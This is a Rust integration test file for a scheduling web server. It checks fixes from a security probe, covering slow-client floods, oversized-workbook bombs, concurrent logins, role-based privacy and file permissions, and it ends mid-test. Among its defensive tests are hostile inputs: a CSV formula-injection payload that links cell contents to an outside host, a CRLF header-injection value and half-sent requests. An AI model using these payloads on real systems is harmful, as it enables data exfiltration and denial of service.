//! What an outside probe of `serve` broke or bent (issue 34), each kept fixed: slow
//! clients, hostile workbooks, logins at once, and the smaller findings.

mod common;

use std::time::{Duration, Instant};

use common::web::*;
use common::{TestDb, runtime};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// Reads until the server closes the connection; what it said, or None if it
/// kept the connection open past `deadline`.
async fn until_closed(stream: &mut TcpStream, deadline: Instant) -> Option<String> {
    let mut heard = Vec::new();
    let mut buffer = [0u8; 4096];
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        match tokio::time::timeout(left, stream.read(&mut buffer)).await {
            Err(_) => return None,
            Ok(Ok(0)) | Ok(Err(_)) => return Some(String::from_utf8_lossy(&heard).into()),
            Ok(Ok(n)) => heard.extend_from_slice(&buffer[..n]),
        }
    }
}

/// 200 requests that stop half-way (100 with half their headers, 100 with
/// nothing at all) hold nothing: a page still answers meanwhile, and the server
/// closes every one of them within 60 s (the header timeout is 10 s). A body
/// that stops arriving is answered 408; a connection over the cap, 503.
#[test]
fn slow_clients_cannot_hold_the_server() {
    let db = TestDb::sqlite();
    district(&db);
    let mut settings = settings_for(&db);
    settings.web.body_timeout_seconds = 3;
    runtime().block_on(async {
        let server = Server::start(&settings).await;
        let address = server.base.trim_start_matches("http://").to_string();
        let started = Instant::now();
        let mut stuck = Vec::new();
        for n in 0..200 {
            let mut stream = TcpStream::connect(&address).await.unwrap();
            if n % 2 == 0 {
                stream
                    .write_all(b"GET /login HTTP/1.1\r\nHost: songjiao\r\nUser-Agent: sl")
                    .await
                    .unwrap();
            }
            stuck.push(stream);
        }
        let page = client()
            .get(format!("{}/login", server.base))
            .send()
            .await
            .unwrap();
        assert_eq!(
            page.status(),
            200,
            "a page answers beside 200 stuck requests"
        );

        let deadline = started + Duration::from_secs(60);
        for (n, stream) in stuck.iter_mut().enumerate() {
            assert!(
                until_closed(stream, deadline).await.is_some(),
                "stuck request {n} still open after 60 s"
            );
        }
        println!(
            "200 half-sent requests closed by the server {:.1} s after they began",
            started.elapsed().as_secs_f64()
        );

        let mut trickle = TcpStream::connect(&address).await.unwrap();
        trickle
            .write_all(
                b"POST /login HTTP/1.1\r\nHost: songjiao\r\n\
                  Content-Type: application/x-www-form-urlencoded\r\n\
                  Content-Length: 100\r\n\r\nusername=",
            )
            .await
            .unwrap();
        let answer = until_closed(&mut trickle, Instant::now() + Duration::from_secs(30))
            .await
            .expect("a body that stops arriving is answered");
        assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
        assert!(
            answer.contains("请求内容在限定时间内没有传完"),
            "in Chinese: {answer}"
        );
        server.stop().await;
    });

    settings.web.max_connections = 3;
    runtime().block_on(async {
        let server = Server::start_again(&settings).await;
        let address = server.base.trim_start_matches("http://").to_string();
        let mut held = Vec::new();
        for _ in 0..3 {
            held.push(TcpStream::connect(&address).await.unwrap());
        }
        // The accept loop takes connections in order: once a fourth is refused the
        // three are counted.
        let mut over = TcpStream::connect(&address).await.unwrap();
        let answer = until_closed(&mut over, Instant::now() + Duration::from_secs(10))
            .await
            .expect("the connection over the cap is answered at once");
        assert!(answer.starts_with("HTTP/1.1 503"), "{answer}");
        assert!(answer.contains("Retry-After"), "{answer}");
        assert!(answer.contains("服务繁忙"), "in Chinese: {answer}");
        drop(held);
        server.stop().await;
    });
}

/// The ids of a child's visits, in day order.
fn visit_ids(db: &TestDb, student: &str) -> Vec<String> {
    db.json(&["visit", "list", "--student", student, "--format", "json"])
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v["visit_id"].to_string())
        .collect()
}

/// `user add` with the tests' password (`args`: the email, name, role…).
fn add_user(db: &TestDb, args: &[&str]) {
    use std::io::Write;
    let mut add = db.command();
    add.args(["user", "add"])
        .args(args)
        .arg("--password-stdin")
        .stdin(std::process::Stdio::piped());
    let mut child = add.spawn().unwrap();
    writeln!(child.stdin.take().unwrap(), "{PASSWORD}").unwrap();
    assert!(child.wait().unwrap().success(), "user add {args:?}");
}

/// The base64 parts of an email, decoded: its text as its reader sees it.
fn base64_parts(eml: &str) -> String {
    use base64::Engine;
    eml.split("Content-Transfer-Encoding: base64")
        .skip(1)
        .filter_map(|part| {
            let body = part
                .split("\r\n\r\n")
                .nth(1)
                .or_else(|| part.split("\n\n").nth(1))?;
            let encoded: String = body
                .lines()
                .take_while(|line| !line.is_empty() && !line.starts_with("--"))
                .collect();
            base64::engine::general_purpose::STANDARD
                .decode(encoded)
                .ok()
        })
        .map(|bytes| String::from_utf8_lossy(&bytes).into_owned())
        .collect()
}

/// Runs `command` to its end: whether it succeeded, what it wrote, and the most
/// memory it held (MB), as the kernel counted it.
// The child is reaped by wait4, which std's Child does not know of.
#[allow(clippy::zombie_processes)]
/// Forks the command and waits for it, then writes its exit status and the
/// most memory it held (its own `ru_maxrss`, KB) to the file named first.
/// Through this small process rather than from the test: a process started
/// from the test binary inherits the test's own high-water mark at exec (Linux
/// keeps it in `ru_maxrss`), and the test binary runs other tests beside it.
const MEASURED: &str = r#"
import os, sys
pid = os.fork()
if pid == 0:
    os.execv(sys.argv[2], sys.argv[2:])
_, status, usage = os.wait4(pid, 0)
with open(sys.argv[1], "w") as out:
    out.write(f"{os.waitstatus_to_exitcode(status)} {usage.ru_maxrss}")
"#;

/// Runs `command`: whether it succeeded, what it printed, and the most memory
/// it held (MB).
fn run_measuring(command: &mut std::process::Command) -> (bool, String, u64) {
    let log = tempfile::NamedTempFile::new().unwrap();
    let result = tempfile::NamedTempFile::new().unwrap();
    let mut measured = std::process::Command::new("python3");
    measured
        .args(["-c", MEASURED])
        .arg(result.path())
        .arg(command.get_program())
        .args(command.get_args())
        .stdout(log.reopen().unwrap())
        .stderr(log.reopen().unwrap());
    if let Some(dir) = command.get_current_dir() {
        measured.current_dir(dir);
    }
    for (name, value) in command.get_envs() {
        match value {
            Some(value) => measured.env(name, value),
            None => measured.env_remove(name),
        };
    }
    let finished = measured.status().unwrap();
    assert!(finished.success(), "the measuring process itself failed");
    let output = std::fs::read_to_string(log.path()).unwrap();
    let result = std::fs::read_to_string(result.path()).unwrap();
    let (code, kilobytes) = result.split_once(' ').expect("status and memory");
    let succeeded = code == "0";
    (
        succeeded,
        output,
        kilobytes.trim().parse::<u64>().unwrap() / 1024,
    )
}

/// The most memory a running process has held so far (MB).
fn peak_memory_mb(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let line = status
        .lines()
        .find(|l| l.starts_with("VmHWM:"))
        .expect("VmHWM");
    line.split_whitespace()
        .nth(1)
        .unwrap()
        .parse::<u64>()
        .unwrap()
        / 1024
}

/// `serve` on a free port with a coordinator account (center@example.org) and
/// its API token: the server, its address and the token.
fn serve_with_a_coordinator(db: &TestDb) -> (common::Running, String, String) {
    district(db);
    add_user(
        db,
        &[
            "center@example.org",
            "--name",
            "区特教中心",
            "--role",
            "coordinator",
        ],
    );
    let token = common::api::token(db, "center@example.org");
    let port = common::mail::free_port();
    let config = db.file(
        "serve.toml",
        format!(
            "[mail]\ndir = \"{}\"\n\n[web]\nlisten = \"127.0.0.1:{port}\"\n",
            common::path(&db.dir.path().join("mail"))
        ),
    );
    let server = db.spawn(&["--config", common::path(&config), "serve"], None);
    let base = format!("http://127.0.0.1:{port}");
    runtime().block_on(async {
        for _ in 0..200 {
            if client().get(format!("{base}/healthz")).send().await.is_ok() {
                return;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        panic!("serve did not answer");
    });
    (server, base, token)
}

/// A workbook with a header in A1:C1 and one cell far away.
fn workbook_reaching(row: u32, column: u16) -> Vec<u8> {
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let sheet = workbook.add_worksheet();
    for (n, header) in ["学生编号", "姓名", "学校"].into_iter().enumerate() {
        sheet.write_string(0, n as u16, header).unwrap();
    }
    sheet.write_string(row, column, "x").unwrap();
    workbook.save_to_buffer().unwrap()
}

/// Two tiny workbooks that claim a vast sheet (a cell at XFD1048576, and one at
/// Z400000) are refused with the cell named, through the command line, the page
/// and the API; nothing is imported, no process holds 300 MB, and the server
/// still answers.
#[test]
fn a_workbook_claiming_a_vast_sheet_is_refused_in_plain_words() {
    let db = TestDb::sqlite();
    let bombs = [
        ("XFD1048576", workbook_reaching(1_048_575, 16_383)),
        ("Z400000", workbook_reaching(399_999, 25)),
    ];
    let students =
        |db: &TestDb| db.sql_rows("SELECT CAST(COUNT(*) AS TEXT) FROM students")[0].clone();
    let (server, base, token) = serve_with_a_coordinator(&db);
    let before = students(&db);
    for (cell, bytes) in &bombs {
        assert!(bytes.len() < 10_000, "{cell}: {} bytes", bytes.len());
        let file = db.file(&format!("{cell}.xlsx"), bytes);
        let (succeeded, output, megabytes) =
            run_measuring(
                db.command()
                    .args(["import", common::path(&file), "--kind", "students"]),
            );
        assert!(!succeeded, "{cell}: {output}");
        assert!(output.contains(cell), "the cell is named: {output}");
        assert!(!output.contains("panicked"), "{output}");
        assert!(megabytes < 300, "{cell}: the command held {megabytes} MB");
        println!("import {cell}.xlsx: refused, {megabytes} MB at most");
    }
    runtime().block_on(async {
        let session = {
            let login = client()
                .post(format!("{base}/login"))
                .form(&[("username", "center@example.org"), ("password", PASSWORD)])
                .send()
                .await
                .unwrap();
            assert_eq!(login.status(), 303);
            login.headers()["set-cookie"]
                .to_str()
                .unwrap()
                .split(';')
                .next()
                .unwrap()
                .to_string()
        };
        for (cell, bytes) in &bombs {
            let page = client()
                .post(format!("{base}/imports/check"))
                .header("cookie", &session)
                .header("origin", &base)
                .multipart(
                    reqwest::multipart::Form::new()
                        .text("kind", "students")
                        .part(
                            "file",
                            reqwest::multipart::Part::bytes(bytes.clone()).file_name("学生.xlsx"),
                        ),
                )
                .send()
                .await
                .unwrap();
            let text = page.text().await.unwrap();
            assert!(
                text.contains(&format!("单元格 {cell} 有内容")),
                "the page names {cell} in Chinese: {text}"
            );
            let api = client()
                .post(format!("{base}/api/v1/imports/students?dry_run=false"))
                .bearer_auth(&token)
                .header(
                    "content-type",
                    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                )
                .body(bytes.clone())
                .send()
                .await
                .unwrap();
            assert_eq!(api.status(), 422, "{cell}");
            let problem = api.text().await.unwrap();
            assert!(problem.contains(cell), "the API names {cell}: {problem}");
        }
        let health = client()
            .get(format!("{base}/healthz"))
            .send()
            .await
            .unwrap();
        assert_eq!(health.status(), 200, "the server still answers");
    });
    let megabytes = peak_memory_mb(server.id());
    assert!(megabytes < 300, "the server held {megabytes} MB");
    println!("serve after both workbooks by page and API: {megabytes} MB at most");
    assert_eq!(students(&db), before, "nothing was imported");
}

/// 100 logins at once (no account needed) wait their turn for the password
/// hashing (19 MiB each) instead of all hashing at once: the server stays under
/// 700 MB, and every one of them is answered.
#[test]
fn a_hundred_logins_at_once_are_answered_within_bounded_memory() {
    let db = TestDb::sqlite();
    let (server, base, _) = serve_with_a_coordinator(&db);
    let before = peak_memory_mb(server.id());
    runtime().block_on(async {
        let mut logins = tokio::task::JoinSet::new();
        for n in 0..100 {
            let base = base.clone();
            logins.spawn(async move {
                let email = if n % 2 == 0 {
                    "center@example.org".to_string()
                } else {
                    format!("nobody{n}@example.org")
                };
                client()
                    .post(format!("{base}/login"))
                    .form(&[("username", email.as_str()), ("password", "not it at all")])
                    .send()
                    .await
                    .map(|answer| answer.status().as_u16())
            });
        }
        while let Some(answer) = logins.join_next().await {
            let status = answer.unwrap().expect("every login is answered");
            assert!(status < 500, "{status}");
        }
    });
    let peak = peak_memory_mb(server.id());
    println!("100 logins at once: serve held {before} MB before, {peak} MB at most");
    assert!(peak < 700, "{peak} MB");
}

/// An API token ends with the password it was made under: when an admin resets
/// the password, and when its owner changes it; both say so.
#[test]
fn tokens_end_when_the_password_is_reset_or_changed() {
    let db = TestDb::sqlite();
    district(&db);
    let settings = settings_for(&db);
    runtime().block_on(async {
        let server = Server::start(&settings).await;
        let students = |token: String| {
            let base = server.base.clone();
            async move {
                client()
                    .get(format!("{base}/api/v1/students"))
                    .bearer_auth(token)
                    .send()
                    .await
                    .unwrap()
                    .status()
            }
        };
        let center = common::api::token(&db, "center@example.org");
        assert_eq!(students(center.clone()).await, 200);
        let said = std::thread::scope(|s| {
            s.spawn(|| db.ok(&["user", "reset", "center@example.org"]))
                .join()
                .unwrap()
        });
        assert!(said.contains("API 令牌已全部作废"), "{said}");
        assert_eq!(students(center).await, 401, "reset ends the token");

        let chengguan = common::api::token(&db, "chengguan@example.org");
        assert_eq!(students(chengguan.clone()).await, 200);
        let session = log_in(&server, "chengguan@example.org").await;
        let page = client()
            .get(format!("{}/account", server.base))
            .header("cookie", format!("songjiao_session={session}"))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(page.contains("API 令牌会作废"), "the form says so: {page}");
        let changed = client()
            .post(format!("{}/account/password", server.base))
            .header("cookie", format!("songjiao_session={session}"))
            .header("origin", &server.base)
            .form(&[
                ("current_password", PASSWORD),
                ("new_password", "another long passphrase 2"),
            ])
            .send()
            .await
            .unwrap();
        assert!(changed.status().is_success() || changed.status().is_redirection());
        assert_eq!(students(chengguan).await, 401, "a change ends the token");
        server.stop().await;
    });
}

/// A note that begins like a formula is written into every CSV file as text a
/// spreadsheet shows and never runs; numbers stay numbers.
#[test]
fn a_formula_in_a_note_never_runs_in_a_spreadsheet() {
    let db = TestDb::sqlite();
    district(&db);
    let id = visit_ids(&db, "S001")[0].clone();
    let formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")";
    db.ok(&[
        "--as-of",
        "2026-12-05",
        "visit",
        "record",
        &id,
        "--outcome",
        "completed",
        "--note",
        formula,
    ]);
    let ledger = db.ok(&["--as-of", "2026-12-05", "ledger", "S001", "--format", "csv"]);
    let folder = db.dir.path().join("export");
    db.ok(&[
        "--as-of",
        "2026-12-05",
        "export",
        "--year",
        "2026-2027",
        "--format",
        "csv",
        "--out",
        common::path(&folder),
    ]);
    let exported: String = std::fs::read_dir(&folder)
        .unwrap()
        .map(|file| std::fs::read_to_string(file.unwrap().path()).unwrap())
        .collect::<Vec<_>>()
        .join("\n");
    for (what, csv) in [("ledger", &ledger), ("year export", &exported)] {
        let cells: Vec<String> = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(csv.trim_start_matches('\u{feff}').as_bytes())
            .records()
            .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
            .collect();
        assert!(
            cells.iter().any(|c| c == &format!("'{formula}")),
            "{what}: the note as text: {cells:?}"
        );
        assert!(
            !cells.iter().any(|c| c.starts_with(['=', '+', '@'])),
            "{what}: no cell a spreadsheet would run: {cells:?}"
        );
    }
    assert_eq!(songjiao::reports::inert_cell("-3"), "-3");
    assert_eq!(songjiao::reports::inert_cell("-1+1"), "'-1+1");
    assert_eq!(songjiao::reports::inert_cell("@SUM(A1)"), "'@SUM(A1)");
}

/// The week's list of visits that could not be placed names only children the
/// reader may see: a school's coordinator never reads another school's child
/// there, on the page or through the API; the district's coordinator does.
#[test]
fn the_weeks_board_names_no_child_of_another_school() {
    let db = TestDb::sqlite();
    district(&db);
    // 东山's only teacher now comes on Tuesday mornings, when 张子涵 (S003) cannot.
    db.import(
        "teachers",
        "teacher_id,name,email,school,available\n\
         T01,王芳,t01@example.org,城关小学,Mon-AM Mon-PM Tue-AM Tue-PM Wed-AM Wed-PM Thu-AM Thu-PM Fri-AM Fri-PM\n\
         T02,李娜,t02@example.org,城关小学,Mon-AM Mon-PM Tue-AM Tue-PM Wed-AM Wed-PM Thu-AM Thu-PM Fri-AM Fri-PM\n\
         T03,赵敏,t03@example.org,东山小学,Tue-AM\n",
    );
    db.ok(&["--as-of", "2026-12-04", "plan-week", "--week", "2026-W50"]);
    let settings = settings_for(&db);
    runtime().block_on(async {
        let server = Server::start(&settings).await;
        let center = log_in(&server, "center@example.org").await;
        let chengguan = log_in(&server, "chengguan@example.org").await;
        let whole = page(&server, &center, "/weeks/2026-W50").await;
        assert!(
            whole.contains("张子涵"),
            "the district sees S003 unplaced: {whole}"
        );
        let one_school = page(&server, &chengguan, "/weeks/2026-W50").await;
        assert!(
            !one_school.contains("张子涵") && !one_school.contains("S003"),
            "城关's coordinator reads no child of 东山: {one_school}"
        );
        for (token, sees) in [
            (common::api::token(&db, "center@example.org"), true),
            (common::api::token(&db, "chengguan@example.org"), false),
        ] {
            let board = client()
                .get(format!("{}/api/v1/weeks/2026-W50/board", server.base))
                .bearer_auth(token)
                .send()
                .await
                .unwrap()
                .text()
                .await
                .unwrap();
            assert_eq!(board.contains("S003"), sees, "{board}");
        }
        server.stop().await;
    });
}

/// Every cell of a workbook, as text.
fn workbook_text(bytes: &[u8]) -> String {
    use calamine::Reader;
    let mut book: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(bytes.to_vec())).unwrap();
    let mut text = String::new();
    for name in book.sheet_names() {
        let range = book.worksheet_range(&name).unwrap();
        for row in range.rows() {
            for cell in row {
                text.push_str(&cell.to_string());
                text.push('\t');
            }
            text.push('\n');
        }
    }
    text
}

/// A supervisor reads a visit's outcome, periods and what was taught per goal,
/// never the guardian's name typed at the visit, the teacher's free-text note or
/// the child's responses: not on the child's page, in the ledger or the year's
/// workbook, nor through the API. The coordinator reads them all; the record
/// form says beside each field who will read it.
#[test]
fn a_supervisor_reads_outcomes_not_the_familys_words() {
    let db = TestDb::sqlite();
    district(&db);
    add_user(
        &db,
        &[
            "t03@example.org",
            "--name",
            "赵敏",
            "--role",
            "teacher",
            "--teacher",
            "T03",
        ],
    );
    let visit = visit_ids(&db, "S003")[0].clone();
    let goal = db.sql_rows(
        "SELECT CAST(g.id AS TEXT) FROM plan_goals g JOIN plans p ON p.id = g.plan_id
         WHERE p.student_id = 'S003'",
    )[0]
    .parse::<i64>()
    .unwrap();
    let settings = settings_for(&db);
    let private = ["癫痫小发作一次", "张伟（签）", "哭闹不止"];
    runtime().block_on(async {
        let server = Server::start(&settings).await;
        server.advance(chrono::Duration::days(1));
        let teacher = common::api::token(&db, "t03@example.org");
        let recorded = client()
            .post(format!("{}/api/v1/visits/{visit}/record", server.base))
            .bearer_auth(&teacher)
            .json(&serde_json::json!({
                "outcome": "completed",
                "note": private[0],
                "guardian_confirmed_by": private[1],
                "goals": [{"goal_id": goal, "taught": "握笔描线练习", "response": private[2]}],
            }))
            .send()
            .await
            .unwrap();
        assert_eq!(recorded.status(), 200, "{}", recorded.text().await.unwrap());

        let supervisor = log_in(&server, "dongshan@example.org").await;
        let center = log_in(&server, "center@example.org").await;
        let bytes = |session: String, path: &'static str| {
            let base = server.base.clone();
            async move {
                let answer = client()
                    .get(format!("{base}{path}"))
                    .header("cookie", format!("songjiao_session={session}"))
                    .send()
                    .await
                    .unwrap();
                assert_eq!(answer.status(), 200, "{path}");
                answer.bytes().await.unwrap().to_vec()
            }
        };
        let api = |token: String, path: &'static str| {
            let base = server.base.clone();
            async move {
                let answer = client()
                    .get(format!("{base}{path}"))
                    .bearer_auth(token)
                    .send()
                    .await
                    .unwrap();
                assert_eq!(answer.status(), 200, "{path}");
                answer.bytes().await.unwrap().to_vec()
            }
        };
        let supervisor_token = common::api::token(&db, "dongshan@example.org");
        let read_by_supervisor = [
            String::from_utf8(bytes(supervisor.clone(), "/students/S003").await).unwrap(),
            workbook_text(&bytes(supervisor.clone(), "/students/S003/ledger.xlsx").await),
            workbook_text(&bytes(supervisor.clone(), "/exports/year.xlsx").await),
            workbook_text(
                &api(
                    supervisor_token.clone(),
                    "/api/v1/students/S003/ledger.xlsx",
                )
                .await,
            ),
            workbook_text(&api(supervisor_token, "/api/v1/exports/year.xlsx").await),
        ];
        for text in &read_by_supervisor {
            assert!(
                text.contains("握笔描线练习"),
                "what was taught is read: {text}"
            );
            for words in private {
                assert!(
                    !text.contains(words),
                    "a supervisor reads `{words}`: {text}"
                );
            }
        }
        let ledger = workbook_text(&bytes(center, "/students/S003/ledger.xlsx").await);
        for words in private {
            assert!(
                ledger.contains(words),
                "the coordinator reads `{words}`: {ledger}"
            );
        }
        let record = page(
            &server,
            &log_in(&server, "t03@example.org").await,
            &format!("/visits/{visit}/record"),
        )
        .await;
        assert!(
            record.contains("只有老师和专干能看到，督导看不到")
                && record.contains("老师、专干和督导都能看到"),
            "the form says who reads each field: {record}"
        );
        server.stop().await;
    });
}

/// Asking to move a visit already recorded, or one in the past, is answered
/// with the reason in Chinese, not a server error.
#[test]
fn moving_a_recorded_or_past_visit_is_refused_with_its_reason() {
    let db = TestDb::sqlite();
    district(&db);
    let visits = visit_ids(&db, "S001");
    let (monday, wednesday) = (&visits[0], &visits[1]);
    db.ok(&[
        "--as-of",
        "2026-11-30T12:00:00+08:00",
        "visit",
        "record",
        monday,
        "--outcome",
        "completed",
    ]);
    let settings = settings_for(&db);
    runtime().block_on(async {
        let server = Server::start(&settings).await;
        let center = log_in(&server, "center@example.org").await;
        let recorded = get(&server, Some(&center), &format!("/visits/{monday}/move")).await;
        assert_eq!(recorded.status(), 422);
        assert!(
            recorded
                .text()
                .await
                .unwrap()
                .contains("已经记录或已经过去的送教不能调动")
        );
        server.advance(chrono::Duration::days(3));
        let center = log_in(&server, "center@example.org").await;
        let past = get(&server, Some(&center), &format!("/visits/{wednesday}/move")).await;
        assert_eq!(past.status(), 422, "Wednesday has passed on Thursday");
        server.stop().await;
    });
}

/// A line break or an invisible character in a name or an address is refused
/// where it is typed, by line and column, in Chinese, and nothing changes; a
/// visit's note may still run over lines.
#[test]
fn control_characters_in_names_and_addresses_are_refused() {
    let db = TestDb::sqlite();
    district(&db);
    let sheet = db.file(
        "students.csv",
        "学生编号,姓名,学校,地址\nS010,\"陈\r\n晨\",城关小学,城关镇\nS011,王一,城关小学,\"城关镇\u{7}1号\"\n",
    );
    let error = db.fails(&["import", common::path(&sheet), "--kind", "students"]);
    assert!(
        error.contains("第 2 行") && error.contains("姓名") && error.contains("请写在一行里"),
        "{error}"
    );
    assert!(error.contains("地址"), "{error}");
    assert_eq!(
        db.sql_rows("SELECT CAST(COUNT(*) AS TEXT) FROM students WHERE id IN ('S010', 'S011')")[0],
        "0"
    );
    let settings = settings_for(&db);
    runtime().block_on(async {
        let server = Server::start(&settings).await;
        let center = log_in(&server, "center@example.org").await;
        let response = client()
            .post(format!("{}/students/S001/edit", server.base))
            .header("cookie", format!("songjiao_session={center}"))
            .header("origin", &server.base)
            .form(&[
                ("name", "李小明"),
                ("school", "城关小学"),
                ("guardian_name", "李强\r\nX-Injected: 1"),
                ("address", "城关镇幸福路1号"),
                ("status", "active"),
                ("available", "Mon-AM"),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 422);
        let text = response.text().await.unwrap();
        assert!(text.contains("请写在一行里"), "{text}");
        server.stop().await;
    });
    let guardian = db.sql_rows("SELECT guardian_name FROM students WHERE id = 'S001'");
    assert_eq!(guardian, ["李强"], "nothing changed");
}

/// `/healthz` tells anyone the status only; each job's runs and errors go to the
/// monitoring addresses and to admins.
#[test]
fn health_in_full_only_for_monitoring_and_admins() {
    let db = TestDb::sqlite();
    district(&db);
    let mut settings = settings_for(&db);
    settings.web.monitoring = Vec::new();
    runtime().block_on(async {
        let server = Server::start(&settings).await;
        let health = |session: Option<String>| {
            let base = server.base.clone();
            async move {
                let mut request = client().get(format!("{base}/healthz"));
                if let Some(id) = session {
                    request = request.header("cookie", format!("songjiao_session={id}"));
                }
                let answer = request.send().await.unwrap();
                assert_eq!(answer.status(), 200);
                answer.json::<serde_json::Value>().await.unwrap()
            }
        };
        let anyone = health(None).await;
        assert_eq!(
            anyone,
            serde_json::json!({"database": "ok"}),
            "the status only"
        );
        let center = log_in(&server, "center@example.org").await;
        assert!(
            health(Some(center)).await.get("jobs").is_none(),
            "a coordinator"
        );
        let admin = log_in(&server, "admin@example.org").await;
        assert!(health(Some(admin)).await["jobs"].is_array(), "an admin");
        server.stop().await;
    });
    settings.web.monitoring = vec!["127.0.0.0/8".into()];
    runtime().block_on(async {
        let server = Server::start_again(&settings).await;
        let answer: serde_json::Value = client()
            .get(format!("{}/healthz", server.base))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        assert!(answer["jobs"].is_array(), "a monitoring address: {answer}");
        server.stop().await;
    });
}

/// An `Idempotency-Key` sent again with the same record answers as the first
/// did; sent with a different record it is refused (422) and nothing changes.
#[test]
fn a_record_key_reused_for_another_record_is_refused() {
    let db = TestDb::sqlite();
    district(&db);
    let visit = visit_ids(&db, "S001")[0].clone();
    let settings = settings_for(&db);
    runtime().block_on(async {
        let server = Server::start(&settings).await;
        let token = common::api::token(&db, "t01@example.org");
        let send = |body: serde_json::Value| {
            client()
                .post(format!("{}/api/v1/visits/{visit}/record", server.base))
                .bearer_auth(&token)
                .header("Idempotency-Key", "phone-1")
                .json(&body)
                .send()
        };
        let first = serde_json::json!({"outcome": "completed", "note": "认识了数字 1 到 5"});
        let answered = send(first.clone()).await.unwrap();
        assert_eq!(answered.status(), 200);
        let etag = answered.headers()["etag"].clone();
        let again = send(first).await.unwrap();
        assert_eq!(again.status(), 200, "the same record again");
        assert_eq!(again.headers()["etag"], etag, "answered as the first");
        let other = send(serde_json::json!({"outcome": "missed", "reason": "child_ill"}))
            .await
            .unwrap();
        assert_eq!(other.status(), 422, "{}", other.text().await.unwrap());
        server.stop().await;
    });
    let outcome = db.sql_rows(&format!("SELECT outcome FROM visits WHERE id = {visit}"));
    assert_eq!(outcome, ["completed"], "nothing changed");
}

/// Six clients recording the same visit at once: each answer (its body and its
/// ETag) is the version that request wrote, never another's.
#[test]
fn each_record_answer_is_the_version_it_wrote() {
    let db = TestDb::sqlite();
    district(&db);
    let visit = visit_ids(&db, "S001")[0].clone();
    let settings = settings_for(&db);
    runtime().block_on(async {
        let server = Server::start(&settings).await;
        let token = common::api::token(&db, "t01@example.org");
        let mut writers = tokio::task::JoinSet::new();
        for writer in 0..6 {
            let (url, token) = (
                format!("{}/api/v1/visits/{visit}/record", server.base),
                token.clone(),
            );
            writers.spawn(async move {
                let mut answers = Vec::new();
                for n in 0..8 {
                    let note = format!("writer {writer} write {n}");
                    let answer = client()
                        .post(&url)
                        .bearer_auth(&token)
                        .json(&serde_json::json!({"outcome": "completed", "note": note}))
                        .send()
                        .await
                        .unwrap();
                    assert_eq!(answer.status(), 200);
                    let etag = answer.headers()["etag"].to_str().unwrap().to_string();
                    let body: serde_json::Value = answer.json().await.unwrap();
                    answers.push((note, etag, body));
                }
                answers
            });
        }
        let mut versions = std::collections::BTreeSet::new();
        while let Some(answers) = writers.join_next().await {
            for (note, etag, body) in answers.unwrap() {
                assert_eq!(
                    body["note"],
                    note.as_str(),
                    "the body is what this request wrote"
                );
                let version = body["record_version"].as_i64().unwrap();
                assert!(
                    etag.contains(&format!("-{version}.")),
                    "{etag} for version {version}"
                );
                assert!(versions.insert(version), "version {version} answered twice");
            }
        }
        assert_eq!(versions.len(), 48);
        server.stop().await;
    });
}

/// The SQLite database, its backups and the mail written to a folder are
/// readable by their owner only: an invitation link in a mail file, or the
/// database itself, is not another local user's to read.
#[test]
#[cfg(unix)]
fn the_database_its_backups_and_the_mail_are_the_owners_only() {
    use std::os::unix::fs::PermissionsExt;
    let mode =
        |path: &std::path::Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
    let db = TestDb::sqlite();
    district(&db);
    db.ok(&[
        "user",
        "add",
        "new@example.org",
        "--name",
        "新专干",
        "--role",
        "coordinator",
    ]);
    let queued = db.sql_rows("SELECT body_text FROM outbox WHERE kind = 'account'");
    assert!(
        queued[0].contains("/password/v1:"),
        "the link's secret is sealed while queued: {queued:?}"
    );
    let mail_dir = db.dir.path().join("mail");
    let sent = db.run_with_env(
        &["outbox", "send"],
        &[("SONGJIAO_MAIL_DIR", common::path(&mail_dir))],
    );
    assert!(sent.status.success(), "{}", common::stderr(&sent));
    let kept = db.sql_rows("SELECT body_text FROM outbox WHERE kind = 'account'");
    assert!(
        kept.len() == 1
            && kept[0].contains("/password/…")
            && kept[0].matches("/password/").count() == kept[0].matches("/password/…").count(),
        "no usable link kept once sent: {kept:?}"
    );
    let database = db.url.trim_start_matches("sqlite://").to_string();
    for file in [database.clone(), format!("{database}-wal")] {
        let path = std::path::Path::new(&file);
        if path.exists() {
            assert_eq!(mode(path), 0o600, "{file}");
        }
    }
    let backup = db.dir.path().join("copy.db");
    db.ok(&["backup", common::path(&backup)]);
    assert_eq!(mode(&backup), 0o600, "the backup");
    let mails: Vec<_> = std::fs::read_dir(&mail_dir)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .collect();
    assert!(!mails.is_empty());
    for mail in &mails {
        assert_eq!(mode(mail), 0o600, "{}", mail.display());
    }
    let account_mail = mails
        .iter()
        .find(|m| m.to_string_lossy().ends_with("-account.eml"))
        .expect("the invitation's file");
    let sent = base64_parts(&std::fs::read_to_string(account_mail).unwrap());
    let secret: String = sent
        .split("/password/")
        .nth(1)
        .unwrap()
        .chars()
        .take_while(char::is_ascii_hexdigit)
        .collect();
    assert_eq!(
        secret.len(),
        64,
        "the email carries the opened link: {sent}"
    );
}

/// While another process holds SQLite's write lock, `/healthz` says the
/// database cannot be written (503) instead of "ok", a page that only reads
/// still opens for a logged-in coordinator, and a child's page (whose read is
/// logged) says "busy" at once.
#[test]
fn health_reports_a_database_it_cannot_write_to() {
    use sqlx::Connection;
    let db = TestDb::sqlite();
    district(&db);
    let settings = settings_for(&db);
    runtime().block_on(async {
        let server = Server::start(&settings).await;
        let health = || async {
            let answer = client()
                .get(format!("{}/healthz", server.base))
                .send()
                .await
                .unwrap();
            (answer.status(), answer.text().await.unwrap())
        };
        assert_eq!(health().await.0, 200);
